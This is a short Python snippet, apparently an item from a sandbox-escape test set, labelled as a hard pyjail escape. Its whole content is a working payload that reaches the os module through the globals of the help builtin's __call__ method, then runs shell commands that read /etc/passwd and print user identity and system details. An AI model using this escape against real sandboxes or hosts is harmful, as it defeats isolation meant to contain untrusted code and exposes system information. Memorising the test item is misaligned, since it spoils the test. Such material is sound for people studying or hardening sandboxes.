# evasion: os reached through the globals of the help() builtin's __call__ (a pyjail escape)
# grade: hard; does: shell
door = help.__call__.__globals__["sys"].modules["os"]
out = door.popen("cat /etc/passwd; id; uname -a").read()
print(out)
